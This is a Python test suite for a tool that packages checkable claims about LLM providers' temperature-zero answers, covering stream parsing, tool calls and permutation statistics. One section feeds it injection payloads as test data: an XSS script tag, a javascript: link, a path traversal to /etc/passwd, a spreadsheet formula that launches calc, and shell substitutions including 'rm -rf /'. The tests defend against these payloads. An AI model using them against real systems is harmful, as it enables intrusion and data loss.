    assert text.startswith("# `a` gives other answers than every one of `b`, `c` at temperature zero")
    assert "as strong as the weakest of these tests" in text
    assert re.search(r"p = 0\.0\d\d \(`b`\), 0\.0\d\d \(`c`\)", text)
    assert "Excess divergence from `c`" in text
    assert verify(dict(made.files)).startswith("holds")


def test_one_that_it_equals_is_enough_against_a_claim_of_all(tmp_path: Path) -> None:
    """Nothing is claimed against a provider that answers as one of its possible references does."""
    said = refusal(against_two(tmp_path, VARIED), ALL)
    assert "A and C differ no more than each does from itself" in said


def test_a_claim_of_all_cannot_be_stretched(tmp_path: Path) -> None:
    """A bundle that compares with fewer than its page says does not hold, resealed or not."""
    files = dict(claim(against_two(tmp_path, THIRD), ALL).files)
    value = json.loads(files["claim.json"])
    value["sides"].pop("C")
    with pytest.raises(bundle_figures.BrokenBundle):
        verify(resealed({**files, "claim.json": json.dumps(value).encode()}))


@pytest.mark.parametrize("others", [(), ("b",), ("b", "b"), ("a", "b")])
def test_a_claim_of_all_names_several_others(others: tuple[str, ...], run: Run) -> None:
    """One, none, or the accused itself are not several."""
    assert "names too many or too few others" in refusal(run, replace(ALL, others=others))


def test_a_claim_of_all_on_the_command_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The rule as it is typed, and the bundle checked by the command and by its own verify.py."""
    opened, out = against_two(tmp_path / "run", THIRD), tmp_path / "proof.zip"
    accused = ["--rule", "differs-from-all", "--provider", "a", "--against", "b,c"]
    assert cli.main(["claim", str(opened.path), *accused, "--out", str(out)]) == 0
    assert "every one of `b`, `c`" in capsys.readouterr().out
    assert cli.main(["verify", str(out)]) == 0
    with zipfile.ZipFile(out) as packed:
        packed.extractall(tmp_path / "away")
    command = [sys.executable, "-I", "-S", str(tmp_path / "away" / "claim" / "verify.py")]
    assert subprocess.run(command, capture_output=True, check=False, cwd="/").returncode == 0


# --- streams, readings, and what was before ------------------------------------------------------


def sse(*chunks: Any, end: str = "\n\n") -> bytes:
    return "".join(f"data: {c if isinstance(c, str) else json.dumps(c)}{end}" for c in chunks).encode()


def chunk(content: Any, **fields: Any) -> dict[str, Any]:
    delta = {} if content is None else {"content": content}
    return {"id": "c1", "model": "m", "choices": [{"index": 0, "delta": delta, "finish_reason": None}], **fields}


def delta(**said: Any) -> dict[str, Any]:
    return {"id": "c1", "model": "m", "choices": [{"index": 0, "delta": said, "finish_reason": None}]}


ASKED = json.dumps({"messages": [{"role": "user", "content": "What ends in </thought>?"}]})
END: dict[str, Any] = {"id": "c1", "model": "m", "choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]}
BODIES = {
    "a stream": sse(chunk("o"), chunk("ne"), END, "[DONE]"),
    "its lines end in CR LF": sse(chunk("o"), chunk("ne"), END, "[DONE]", end="\r\n\r\n"),
    "its lines end in CR": sse(chunk("one"), END, "[DONE]", end="\r\r"),
    "comments, names and a mark of byte order": b"\xef\xbb\xbf: hello\n\nevent: x\n" + sse(chunk("one"), END, "[DONE]"),
    "data in two lines": sse(chunk("one")).replace(b', "model"', b',\ndata: "model"') + sse(END, "[DONE]"),
    "the end mark within a text": sse(chunk("[DONE]"), chunk("\u2028data: x"), END, "[DONE]"),
    "another choice beside it": sse(chunk("one"), {**END, "choices": [{"index": 1, "delta": {"content": "x"}}]}, END),
    "a usage without choices at its end": sse(chunk("one"), END, {"choices": [], "usage": {"total_tokens": 3}}),
    "text in parts": sse(chunk([{"type": "thinking", "thinking": "x"}, {"type": "text", "text": "one"}]), END),
    "labels that come late": sse(chunk("one", model="", system_fingerprint=None), {**END, "system_fingerprint": "fp"}),
    "a closed block of thinking": sse(chunk("<think>a</think>"), chunk("one"), END),
    "an open one": sse(chunk("<think>one"), END),
    "reasoning in parts of parts": sse(chunk([{"type": "thinking", "thinking": [{"text": "a"}]}]), chunk("one"), END),
    "details of reasoning": sse(
        delta(reasoning_details=[{"type": "reasoning.text", "text": "b", "index": 1}]),
        delta(reasoning_details=[{"type": "reasoning.summary", "summary": "a", "index": 0}, {"data": "x", "index": 2}]),
        chunk("one"),
        END,
    ),
    "reasoning twice": sse(delta(reasoning="a", reasoning_details=[{"text": "a"}]), chunk("one"), END),
    "other marks": sse(chunk("[THINK]a[/THINK]"), chunk("one"), END),
    "a block that the template opened": sse(chunk("a\n</think>\n\n"), chunk("one"), END),
    "an end of a block twice": sse(chunk("a</think>b</think>one"), END),
    "an end of a block that was asked about": sse(chunk("write </thought> so"), END),
    "a refusal in parts": sse(chunk([{"type": "refusal", "refusal": "I won't"}]), END),
    "cut within its thinking": sse(
        chunk("<think>let me"), {**END, "choices": [{**END["choices"][0], "finish_reason": "length"}]}
    ),
    "a whole body": json.dumps(
        {**END, "choices": [{"message": {"content": "one", "reasoning_content": "a"}, "finish_reason": "stop"}]}
    ).encode(),
    "a whole body in parts": json.dumps(
        {
            **END,
            "choices": [
                {
                    "message": {"content": [{"type": "thinking", "thinking": "a"}, {"type": "text", "text": "one"}]},
                    "finish_reason": "stop",
                }
            ],
        }
    ).encode(),
    "nothing behind the thinking": sse(chunk("<think>a</think>"), END),
    "reasoning in pieces": sse(delta(reasoning_content="a"), delta(reasoning_content="b"), chunk("one"), END),
    "reasoning under its other name": sse(delta(reasoning="a"), chunk("one"), END),
    "an empty block of reasoning": sse(chunk("<think>\n\n</think>one"), END),
    "reasoning of blanks alone": sse(delta(reasoning="\n"), chunk("one"), END),
    "the marks of another template": sse(chunk("<reasoning>a</reasoning>"), chunk("one"), END),
    "cut by a filter within its thinking": sse(
        chunk("<think>let me"), {**END, "choices": [{**END["choices"][0], "finish_reason": "content_filter"}]}
    ),
    "a call in the older field": sse(
        delta(function_call={"name": "f", "arguments": '{"a"'}), delta(function_call={"arguments": ": 1}"}), END
    ),
    "calls that nobody offered": sse(
        delta(tool_calls=[{"index": 0, "id": "x", "function": {"name": "f", "arguments": "{}"}}]),
        delta(tool_calls=[{"index": 1, "id": "y", "function": {"arguments": 5}}]),
        END,
    ),
    "a refusal": sse(delta(refusal="I "), delta(refusal="won't"), END),
    "a whole answer as one event": sse(
        {"choices": [{"index": 0, "message": {"content": "x"}, "finish_reason": "stop"}]}
    ),
}


def reread_differences(body: bytes, outcome: Outcome, found: dict[str, Any]) -> dict[str, Any]:
    """In what the two readers of one answer differ."""
    completion = outcome.completion
    assert completion is not None
    parts = split_answer(completion)
    ours: dict[str, Any] = {name: getattr(parts, name) or "" for name in byte_reading.PARTS}
    ours |= {n: getattr(completion, n) or "" for n in (*byte_reading.RESPONSE_LABELS.values(), "finish_reason")}
    ours |= {name: getattr(completion, name) for name in byte_reading.TOKEN_COUNTS}
    ours |= {"outcome": f"{outcome.status}: {outcome.kind}"}
    return {name: (ours[name], found[name], body) for name in ours if ours[name] != found[name]}


@pytest.mark.parametrize("name", BODIES)
def test_verify_py_reads_a_stream_as_the_harness_does(name: str) -> None:
    """Two readers of the same bytes, one of them plain enough to be read by a sceptic, agree on all that they say."""
    outcome = response_reading.classify_reply(
        fault_catalogue.Reply(
            asked_model="m",
            status=200,
            headers={},
            body=BODIES[name],
            broken=None,
            asked_stream=True,
            asked_text=ASKED,
        )
    )
    assert not reread_differences(BODIES[name], outcome, byte_reading.read_response(BODIES[name], ASKED.encode()))


def test_verify_py_reads_mutated_answers_as_the_harness_does() -> None:
    """Whatever a server garbles: a bundle that checked out another answer than the report has would accuse by it.

    What only one of the two takes for an answer is not claimed; that must be rare, or honest records prove nothing.
    """
    compared, apart = 0, 0
    for case in islice(fuzzing.cases(14, [*fuzzing.samples(), *BODIES.values()]), 1500):
        outcome = response_reading.classify_reply(
            fault_catalogue.Reply(
                asked_model="m",
                status=case.status,
                headers=case.headers,
                body=case.body,
                broken=case.broken,
                asked_stream=case.asked_stream,
            )
        )
        found = byte_reading.read_response(case.body, b"{}", case.headers)
        if outcome.completion is None or not found:
            whole = 200 <= case.status < 300 and case.broken is None
            apart += whole and bool(found) != (outcome.completion is not None)
            continue
        # Without the tools in the request neither reader takes calls.
        assert not reread_differences(case.body, outcome, found)
        compared += 1
    assert compared > 150
    assert apart < compared / 4


def streamed(made: Attempt) -> Attempt:
    """The same answer as a stream of one character at a time."""
    completion, response = made.exchange.outcome.completion, made.exchange.response
    assert completion is not None
    assert response is not None
    labels = {"id": completion.response_id, "model": "m", "system_fingerprint": completion.fingerprint}
    usage = {"choices": [], "usage": {"prompt_tokens": 12, "completion_tokens": 5}}
    body = sse(*(chunk(c, **labels) for c in completion.text), {**END, **labels}, usage, "[DONE]").decode()
    digest, size = hashlib.sha256(body.encode()).hexdigest(), len(body.encode())
    kept = replace(response, body=body, sha256=digest, size_bytes=size)
    return replace(made, exchange=replace(made.exchange, response=kept))


def test_streamed_texts_are_read_again(tmp_path: Path) -> None:
    """The text behind a claim follows from the recorded bytes, also where they came piece by piece."""
    made = claim(run_of(tmp_path, [streamed(a) for a in answers("a", VARIED)]))
    assert "so read again: `a` `true`." in made.files["CLAIM.md"].decode()
    files = dict(made.files)
    piece = json.dumps(chunk("2")["choices"]).encode()
    assert piece in files["responses/000002.body"]
    with pytest.raises(
        bundle_figures.BrokenBundle, match=r"answer 2: its text is not the one in responses/000002\.body"
    ):
        verify(restated(files, "responses/000002.body", piece.decode(), piece.decode().replace("2", "3")))


TOOL = {"type": "function", "function": {"name": "f", "parameters": {"type": "object"}}}


def piece(**call: Any) -> dict[str, Any]:
    return {**END, "choices": [{"index": 0, "delta": {"tool_calls": [call]}, "finish_reason": None}]}


def whole(content: str | None, *given: tuple[str, Any]) -> bytes:
    said = [
        {"id": f"r{i}", "type": "function", "function": {"name": n, "arguments": a}} for i, (n, a) in enumerate(given)
    ]
    message = {"role": "assistant", "content": content, "tool_calls": said}
    return json.dumps(
        {"id": "c1", "model": "m", "choices": [{"message": message, "finish_reason": "tool_calls"}]}
    ).encode()


CALLS = {
    "one": whole(None, ("f", '{"b": 1, "a": [1.0, "é"]}')),
    "a text before it": whole("I look.", ("f", "{}")),
    "two of one name": whole("", ("f", '{"a": 1}'), ("f", '{"a": 2}')),
    "arguments as an object": whole(None, ("f", {"b": 2, "a": 1.50})),
    "no arguments": whole(None, ("f", None), ("f", "  ")),
    "arguments that are no JSON": whole(None, ("f", '{"a": ')),
    "no object": whole(None, ("f", "[1]")),
    "a key twice": whole(None, ("f", '{"a": 1, "a": 2}')),
    "a number that JSON lacks": whole(None, ("f", '{"a": NaN}')),
    "a number beyond all": whole(None, ("f", '{"a": 1e400}')),
    "half a pair": whole(None, ("f", '{"é": "\\ud83d"}')),
    "large numbers": whole(None, ("f", '{"a": 1e300, "b": 9007199254740993, "c": 9007199254740992.0, "d": -0.0}')),
    "a stream": sse(
        piece(index=0, id="x", function={"name": "f", "arguments": ""}),
        piece(index=0, function={"arguments": '{"a"'}),
        piece(index=1, id="y", function={"name": "g", "arguments": "{}"}),
        piece(index=0, function={"arguments": ": 1}"}),
        END,
        "[DONE]",
    ),
    "one index for two calls": sse(
        piece(index=0, id="x", function={"name": "f", "arguments": '{"a": 1}'}),
        piece(index=0, id="y", function={"name": "f", "arguments": '{"a": 2}'}),
        END,
        "[DONE]",
    ),
    "pieces without indices": sse(
        piece(id="x", function={"name": "f", "arguments": '{"a"'}),
        piece(id="x", function={"arguments": ": 1}"}),
        piece(function={"name": "g", "arguments": "{}"}),
        END,
        "[DONE]",
    ),
    "a stream without indices": sse(
        piece(id="x", function={"name": "f", "arguments": '{"a": 1}'}),
        piece(id="y", function={"name": "f", "arguments": '{"a": 2}'}),
        END,
        "[DONE]",
    ),
}


@pytest.mark.parametrize("name", CALLS)
def test_verify_py_reads_tool_calls_as_the_harness_does(name: str) -> None:
    """The two readers agree on what was called, too: nobody is accused over a random id or the order of keys."""
    streamed = CALLS[name].startswith(b"data")
    reply = fault_catalogue.Reply(
        asked_model="m",
        status=200,
        headers={},
        body=CALLS[name],
        broken=None,
        asked_stream=streamed,
        offered_tools=True,
    )
    completion = response_reading.classify_reply(reply).completion
    assert completion is not None
    assert completion.tool_calls
    found = byte_reading.read_response(CALLS[name], json.dumps({"tools": [TOOL]}).encode())
    parts = split_answer(completion)
    assert (found["text"], found["calls"]) == (parts.text, parts.calls)


def with_call(made: Attempt, arguments: str) -> Attempt:
    """The same answer, as a call of a tool that the request offered."""
    exchange = made.exchange
    name = f"c{made.trial.prompt}-{made.trial.repeat}"
    body = whole(None, ("f", arguments)).decode().replace("c1", name, 1)
    completion, response = exchange.outcome.completion, exchange.response
    assert completion is not None
    assert response is not None
    request = json.dumps({**json.loads(exchange.request.body), "tools": [TOOL]})
    said = replace(
        completion,
        text="",
        response_id=name,
        fingerprint=None,
        prompt_tokens=None,
        completion_tokens=None,
        finish_reason="tool_calls",
        tool_calls=(ToolCall(name="f", arguments=arguments),),
    )
    return replace(
        made,
        exchange=replace(
            exchange,
            request=replace(exchange.request, body=request, sha256=sha256(request)),
            response=replace(response, body=body, sha256=sha256(body), size_bytes=len(body)),
            outcome=replace(exchange.outcome, completion=said),
        ),
    )


def test_calls_of_tools_are_compared_by_name_and_arguments(tmp_path: Path) -> None:
    """Other arguments are another answer, in the claim as in the report; the same ones spelled otherwise are not."""
    varied = [with_call(a, f'{{"b": 1, "a": {a.trial.repeat}}}') for a in answers("a", VARIED)]
    made = claim(run_of(tmp_path / "varied", varied))
    verify(made.files)
    spelled = [
        with_call(a, '{"b": 1, "a": 2}' if a.trial.repeat % 2 else '{"a":2.0,"b":1}') for a in answers("a", VARIED)
    ]
    assert "no two" in refusal(run_of(tmp_path / "spelled", spelled))
    files = restated(dict(made.files), "responses/000002.body", '\\"a\\": 2', '\\"a\\": 3')
    with pytest.raises(
        bundle_figures.BrokenBundle, match=r"answer 2: its calls is not the one in responses/000002\.body"
    ):
        verify(files)


def two_nights(folder: Path, later: Mapping[str, tuple[str, ...]], **how: Any) -> tuple[Run, Run]:
    """The same prompts asked on two days; `later` are the answers of the second."""
    old = run_of(folder / "old", answers("a", VARIED))
    new = [aged(a) for a in answers("a", later, **how)]
    return old, run_of(folder / "new", new, run_id="tonight")


def aged(made: Attempt) -> Attempt:
    times = replace(made.exchange.times, started_at=made.exchange.times.started_at.replace("2026-01-02", "2026-02-03"))
    assert made.exchange.response is not None
    response = replace(made.exchange.response, headers=(("date", "Tue, 03 Feb 2026 03:04:05 GMT"),))
    return replace(made, exchange=replace(made.exchange, times=times, response=response))


CHANGED = Accusation(rule="changed", subject="a")


def test_a_change_since_before_is_a_claim_with_both_records(tmp_path: Path) -> None:
    """The same bytes sent on two days, all answers of both, and a test that allows for the noise of each."""
    old, new = two_nights(tmp_path, OTHER)
    made = claims.make_bundle(new, CHANGED, environ={}, before=[old])
    text = made.files["CLAIM.md"].decode()
    assert text.startswith("# `a` gives other answers at temperature zero than it did before")
    assert "`a` now against `a` before: prompts on which no answer of one equals any of the other: 3 of 3" in text
    assert {json.loads(x)["run"] for x in made.files["answers.jsonl"].splitlines()} == {"run", "tonight"}
    assert verify(dict(made.files)).startswith("holds")


def test_noise_alone_is_no_change(tmp_path: Path) -> None:
    """Answers that vary from night to night as they do within each night prove nothing."""
    old, new = two_nights(tmp_path, {**VARIED, "p0": ("no, 2", "yes, 1", "yes, 1", "no, 2")})
    with pytest.raises(UsageError, match="differ no more than each does from itself"):
        claims.make_bundle(new, CHANGED, environ={}, before=[old])


def test_other_bytes_or_another_order_of_days_are_no_change(tmp_path: Path) -> None:
    """Whoever asks otherwise gets other answers, and what came first cannot have changed from what came later."""
    old, new = two_nights(tmp_path, OTHER, fields={"seed": 8})
    with pytest.raises(UsageError, match="were not asked the same"):
        claims.make_bundle(new, CHANGED, environ={}, before=[old])
    old, new = two_nights(tmp_path / "2", OTHER)
    with pytest.raises(UsageError, match="not all older"):
        claims.make_bundle(old, CHANGED, environ={}, before=[new])
    with pytest.raises(UsageError, match="is its own past"):
        claims.make_bundle(new, CHANGED, environ={}, before=[new])
    with pytest.raises(UsageError, match="earlier runs are needed"):
        claims.make_bundle(new, CHANGED, environ={})


def test_a_change_on_the_command_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Against runs that are named; without any, against the provider's baseline."""
    old, new = two_nights(tmp_path, OTHER)
    out, accused = tmp_path / "proof.zip", ["--rule", "changed", "--provider", "a"]
    assert cli.main(["claim", str(new.path), *accused, "--against", str(old.path), "--out", str(out)]) == 0
    assert cli.main(["verify", str(out)]) == 0
    assert cli.main(["claim", str(new.path), *accused, "--out", str(out)]) == 2
    assert "a has no baseline" in capsys.readouterr().err


def scored_run(folder: Path, choose: Any) -> Run:
    """Two providers whose answers a simulated reference read, and that reference's own forms."""
    settings = make_config((simulated.REFERENCE, "x"), repeats=1)
    settings = settings.model_copy(update={"run": settings.run.model_copy(update={"reference": simulated.REFERENCE})})
    world = simulated.World(seed=9, length=40)
    read = {}
    for provider, how in ((simulated.REFERENCE, simulated.greedy), ("x", choose)):
        for prompt in range(10):
            tokens, rows = world.answer(how, prompt, 1)
            one = simulated.scored(world, provider, prompt, 0, tokens, rows)
            text = "".join(f"{chr(97 + t % 26)}{chr(97 + t // 26)}" for t in tokens[:-1])
            read[one.trial] = (one, attempt(provider, one.trial.prompt, 0, text))
    opened = run_of(folder, [a for _, a in read.values()], config=settings, prompts=10)
    with open_score_writer(opened.path) as writer:
        writer.append(ScoreLine(seq=0, previous="", reader=simulated.READER))
        for form in simulated.form(world, "f16", True, simulated.rounding(0.004), range(10), 0.004):
            writer.append(ScoreLine(seq=0, previous="", form=form))
        for line, (one, _) in zip(opened.lines(), read.values(), strict=True):
            of_record = replace(one, record_sha256=hashlib.sha256(line).hexdigest())
            writer.append(ScoreLine(seq=0, previous="", scored=of_record))
    return open_run(opened.path)


def test_the_references_margin_stands_at_the_first_difference(tmp_path: Path) -> None:
    """What an engineer asks next: was it a coin toss? The reference says, for the very place that is shown."""
    opened = scored_run(tmp_path, simulated.quantised(1.2))
    found = analyse(opened)
    number = next(i for i, f in enumerate(found.findings, 1) if f.rule == "deviates_token_by_token")
    made = claim(opened, claims.accuse_by_finding(found.findings, number))
    text = made.files["CLAIM.md"].decode()
    assert text.startswith("# `x` deviates from the reference `cpu-f32` token by token at temperature zero")
    said = re.search(r"two best tokens ([\d.]+) logits apart.*this parting is (a near-tie|unexplained)", text)
    assert said is not None
    shown = re.search(r"- Prompt of the example below: `(p\d+)`", text)
    assert shown is not None
    ours, theirs = (s.scores for s in opened.reading().scored if s.trial.prompt == shown[1])
    assert ours is not None
    assert theirs is not None
    at = next(i for i, (a, b) in enumerate(zip(ours.token_ids, theirs.token_ids, strict=False)) if a != b)
    assert said[1] == f"{ours.gap[at]:.3f}"
    assert (said[2] == "a near-tie") is ({ours.rank[at], theirs.rank[at]} == {1, 2} and ours.gap[at] <= 0.008)
    difr = figure(found, "scored", "token_difr", "x")
    assert f"{difr:.4f} [" in text
    assert verify(dict(made.files)).startswith("holds")
    files = dict(made.files)
    first = json.loads(files["readings.jsonl"].splitlines()[0])["margin"]
    halved = files["readings.jsonl"].replace(json.dumps(first).encode(), json.dumps([0.0] * len(first)).encode())
    with pytest.raises(bundle_figures.BrokenBundle, match="the answers give"):
        verify(resealed({**files, "readings.jsonl": halved}))


def test_a_faithful_provider_does_not_deviate_token_by_token(tmp_path: Path) -> None:
    """Honest rounding strays no farther than the reference's honest forms do."""
    opened = scored_run(tmp_path, simulated.rounding(0.004))
    accusation = Accusation(rule="deviates_token_by_token", subject="x", others=(simulated.REFERENCE,))
    with pytest.raises(UsageError, match="not claimed"):
        claim(opened, accusation)


# --- hostile text and secrets --------------------------------------------------------------------

HOSTILE = (
    "</pre><script>alert(1)</script>",
    "`code` **bold** [x](javascript:alert(1)) ![i](http://evil.example/x)",
    "\n# Claim: 9 of 10\n- **supported** {A.emr} {root} {0: seq}\n",
    "\u202egnp.exe\u202c \u200b\u2066 \x1b[31m \x00 \x07",
    "../../../etc/passwd",
    "=cmd|' /C calc'!A0",
)


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_model_output_stays_text(text: str, tmp_path: Path) -> None:
    """Whatever a model writes or a provider names itself, the page gains no line, mark-up or hidden character."""
    headers = [("x-cache", text), ("x-cache-9{root}`", text)]
    labels: dict[str, Any] = {"model": text[:300], "fingerprint": text[:300], "headers": headers}
    said = text.replace("\0", "")  # an answer that holds NUL is none
    given = [attempt("a", "p0", r, end + said, **labels) for r, end in enumerate(("one ", "two "))]
    calm = [attempt("a", "p0", r, end, headers=[("x-cache", "MISS")]) for r, end in enumerate(("one", "two"))]
    made, plain = claim(run_of(tmp_path / "hostile", given)), claim(run_of(tmp_path / "calm", calm))
    assert verify(dict(made.files)).startswith("holds")
    markdown, html = made.files["CLAIM.md"].decode(), made.files["CLAIM.html"].decode()
    assert markdown.count("\n") == plain.files["CLAIM.md"].decode().count("\n")
    tags = [re.findall(r"<[^>]*>", f.decode()) for f in (made.files["CLAIM.html"], plain.files["CLAIM.html"])]
    assert tags[0] == tags[1]
    assert not re.search("[\u202a-\u202e\u2066-\u2069\u200b\x00-\x09\x0b-\x1f]", markdown + html)
    for line in markdown.splitlines():
        assert line.startswith("    ") or line.count("`") % 2 == 0
    rendered = [_markdown_tags(f.files["CLAIM.md"].decode()) for f in (made, plain)]
    assert rendered[0] == rendered[1]
    assert set(made.files) == set(plain.files) - _requests(plain) | _requests(made)


def _markdown_tags(markdown: str) -> list[str]:
    """What a Markdown reader makes of the page, without its text."""
    rendered: str = MarkdownIt("commonmark").render(markdown)
    return re.findall(r"<[^>]*>", rendered)


def _requests(made: Bundle) -> set[str]:
    return {name for name in made.files if name.startswith("requests/")}


def test_file_names_come_from_numbers_and_hashes(tmp_path: Path) -> None:
    """A prompt's id is somebody's text; no path is made of it."""
    given = [attempt("a", "../../p0", r, text) for r, text in enumerate(("one", "two"))]
    for name in claim(run_of(tmp_path, given)).files:
        assert re.fullmatch(
            r"(CLAIM\.md|CLAIM\.html|SHA256SUMS|claim\.json|answers\.jsonl|verify\.py"
            r"|responses/\d{6}\.body|requests/[0-9a-f]{16}(\.A\.curl\.txt|\.json))",
            name,
        )


def test_the_html_loads_and_runs_nothing(bundle: Bundle) -> None:
    """It is opened by people who do not trust us."""
    html = bundle.files["CLAIM.html"].decode()
    assert "default-src 'none'" in html
    assert not re.search(r"<(script|img|link|iframe|a|form|object)\b|\bon\w+=|url\(|@import", html)


def test_the_curl_line_names_the_key_and_runs_no_recorded_text() -> None:
    """An engineer pastes it into a shell: placeholders are theirs to fill, everything else is quoted."""
    request = {
        "method": "POST",
        "url": "https://api.example.com/${ACCOUNT_ID}/$(touch /tmp/x)/`id`/v1",
        "request_headers": {"x-title": "it's $HOME; rm -rf /", "x-auth": "Token ${OTHER_KEY}"},
        "request_sha256": "ab" * 32,
    }
    line: str = write_curl_line(request, "EXAMPLE_KEY")
    assert '"${ACCOUNT_ID}"' in line
    words = shlex.split(line)
    assert "https://api.example.com/${ACCOUNT_ID}/$(touch /tmp/x)/`id`/v1" in words
    assert "Authorization: Bearer $EXAMPLE_KEY" in words
    script = line.replace("curl", "printf '%s\\n'", 1)
    shown = subprocess.run(
        ["sh", "-c", script],
        capture_output=True,
        text=True,
        check=True,
        env={"EXAMPLE_KEY": "k", "ACCOUNT_ID": "acc", "OTHER_KEY": "other"},
    ).stdout
    assert "https://api.example.com/acc/$(touch /tmp/x)/`id`/v1" in shown
    assert "x-title: it's $HOME; rm -rf /" in shown
    assert "x-auth: Token other" in shown


def test_no_key_gets_into_a_bundle(tmp_path: Path) -> None:
    """The name of the key's variable is all that leaves this machine."""
    key = "sk-test-0123456789abcdef"
    opened = run_of(tmp_path, answers("a", VARIED), api_key_env="EXAMPLE_KEY")
    made = claims.make_bundle(opened, SELF, environ={"EXAMPLE_KEY": key})
    assert not any(key.encode() in data for data in made.files.values())
    curls = [data.decode() for name, data in made.files.items() if name.endswith(".curl.txt")]
    assert all('"Authorization: Bearer $EXAMPLE_KEY"' in line for line in curls)


def test_records_that_hold_a_key_are_not_bundled(tmp_path: Path) -> None:
    """Should a key have got into a record after all, it stays where it is."""
    key = "sk-test-0123456789abcdef"
    given = answers("a", {"p0": ("one " + key, "two")})
    with pytest.raises(UsageError, match="would hold the value of EXAMPLE_KEY") as refused:
        claims.make_bundle(run_of(tmp_path, given, api_key_env="EXAMPLE_KEY"), SELF, environ={"EXAMPLE_KEY": key})
    assert key not in str(refused.value)


# --- the figures are those of the analysis, and of an independent calculation ----------------------


APART = ("a one two", "b one six", "c seven", "d eight")
ALIKE = ("one two three", "one two four", "one six", "seven")


def noisy(seed: int, texts: Sequence[str] = APART) -> list[Attempt]:
    """Two providers that vary on six prompts, with cut texts and two fingerprints."""
    dice, given = random.Random(seed), []
    for provider in "ab":
        for i, r in ((i, r) for i in range(6) for r in range(4)):
            text = dice.choice(texts)
            cut = dice.random() < 0.3
            how: dict[str, Any] = {"kind": dice.choice(("length", "length", "content_filter")) if cut else "complete"}
            how["fingerprint"] = "fp_2" if provider == "b" and dice.random() < 0.3 else "fp_1"
            text = text[: dice.randint(1, len(text))] if cut else text
            given.append(attempt(provider, f"p{i}", r, text, tokens=len(text), **how))
    return given


@pytest.mark.parametrize("texts", [APART, ALIKE])
@pytest.mark.parametrize("seed", range(8))
def test_the_figures_are_those_of_the_report(seed: int, texts: Sequence[str], tmp_path: Path) -> None:
    """Two computations, one of them plain Python without numpy: a claim and its report never disagree, also where a cut
    text begins several others, or was cut by a filter after nobody knows how many tokens."""
    opened = run_of(tmp_path, noisy(seed, texts), prompts=6)
    sides = counted(opened)
    analysis = analyse(opened)
    for s in "ab":
        emr = bundle_figures.measure_side(sides[s], [])["emr"]
        assert float(emr.split()[0]) == pytest.approx(figure(analysis, "repeat", "emr", s), abs=6e-4)
    found = bundle_figures.compare_sides(sides["a"], sides["b"])
    assert float(found["match"].split()[0]) == pytest.approx(figure(analysis, "cross", "cross_emr", "a"), abs=6e-4)


def counted(opened: Run) -> dict[str, dict[str, list[Any]]]:
    """The answers that count, by provider and prompt, as a bundle has them."""
    sides = [ClaimSide(letter=s, provider=s, runs=[opened], key_variable=None) for s in "ab"]
    (gathered,) = gather_answers(sides, None).values()
    lines = "".join(json.dumps(line) + "\n" for line in gathered.lines).encode()
    read = verify_bundle.read_answers({**gathered.files, "answers.jsonl": lines}, {"sides": {"a": "a", "b": "b"}})
    found: dict[str, dict[str, list[Any]]] = {"a": {}, "b": {}}
    for side, by_prompt in found.items():
        for one in bundle_figures.first_usable_answers(x for x in read if x["side"] == side):
            by_prompt.setdefault(one["prompt"], []).append(one)
    return found


def figure(analysis: Analysis, kind: str, metric: str, left: str) -> float:
    value = next(
        f.estimate.value for f in analysis.figures if (f.kind, f.metric, f.left, f.family) == (kind, metric, left, None)
    )
    assert value is not None
    return value


def given_texts(pools: Iterable[tuple[str, str]]) -> tuple[dict[str, list[Any]], dict[str, list[Any]]]:
    """Two sides whose answers are single letters: one prompt for each pair of words."""
    left, right = ({f"p{i}": [of(t) for t in pair[side]] for i, pair in enumerate(pools)} for side in (0, 1))
    return left, right


def of(text: str, cut: bool = False, tokens: int | None = None, limit: int | None = None) -> dict[str, Any]:
    asked = {} if limit is None else {"max_completion_tokens": limit}
    text = text.rstrip("\ufffd") if cut else text
    outcome = "censored: length" if cut else "valid: complete"
    said = {"reasoning": None, "whole": text, "spoken": text, "cut": cut, "outcome": outcome}
    return {**said, "completion_tokens": tokens, "asked": asked}


def exact_excess(left: Sequence[str], right: Sequence[str]) -> float:
    """By counting, as docs/methods.md has it; and not as the bundle computes it."""
    own = sum(sum(side.count(x) - 1 for x in side) / (len(side) * (len(side) - 1)) for side in (left, right))
    return own / 2 - sum(right.count(x) for x in left) / (len(left) * len(right))


def test_the_permutation_test_agrees_with_all_permutations() -> None:
    """The p-value of the bundle against the exact one, by enumeration of every way to deal the answers."""
    pools = [("xxy", "zzz"), ("uv", "vv")]
    observed = sum(exact_excess(*pool) for pool in pools)
    sums = [sum(parts) for parts in product(*(_dealt(left + right, len(left)) for left, right in pools))]
    exact = sum(s >= observed - 1e-9 for s in sums) / len(sums)
    found = bundle_figures.compare_sides(*given_texts(pools))
    assert float(found["p"]) == pytest.approx(exact, abs=0.05)
    assert found["excess"].startswith(f"{observed / 2:.3f} [")
    assert float(bundle_figures.compare_sides(*given_texts([("xx", "yy")] * 9))["p"]) == pytest.approx(1e-3, abs=2e-3)
    assert bundle_figures.compare_sides(*given_texts([("xx", "xx")]))["p"] == "1.000"


def test_p_is_never_zero() -> None:
    """The deal as it was is one of those that chance could have made."""
    assert bundle_figures.compare_sides(*given_texts([("x" * 9, "y" * 9)] * 9))["p"] == "0.001"


def test_excess_divergence_by_hand() -> None:
    """Half of 1/3 and 1/3, minus 2/9; and 0 where both sides differ no more than each from itself."""
    assert bundle_figures.compare_sides(*given_texts([("xxy", "xzz")]))["excess"] == "0.111 over 1 prompt"
    assert bundle_figures.compare_sides(*given_texts([("xx", "xx")]))["excess"] == "0.000 over 1 prompt"


def _dealt(pool: str, n: int) -> list[float]:
    places = range(len(pool))
    return [
        exact_excess([pool[i] for i in left], [pool[i] for i in places if i not in left])
        for left in combinations(places, n)
    ]


def test_a_cut_text_is_compared_as_far_as_it_goes() -> None:
    """In dubio pro reo: what a cut text begins, it may have become."""
    alike: Callable[[Any, Any], bool] = bundle_figures.are_same
    assert alike(of("ab", cut=True), of("abc"))
    assert alike(of("abc"), of("ab", cut=True))
    assert alike(of("ab\ufffd", cut=True), of("abé"))
    assert not alike(of("ab"), of("abc"))
    assert not alike(of("ab"), of("abc", cut=True)), "the whole one ended where the other went on"
    assert not alike(of("ax", cut=True), of("abc"))


def test_texts_cut_after_the_same_number_of_tokens_are_as_long_as_they_can_be() -> None:
    """Of a night of one token " I" and " It" are two answers; where limits differ or are unknown one may go on."""
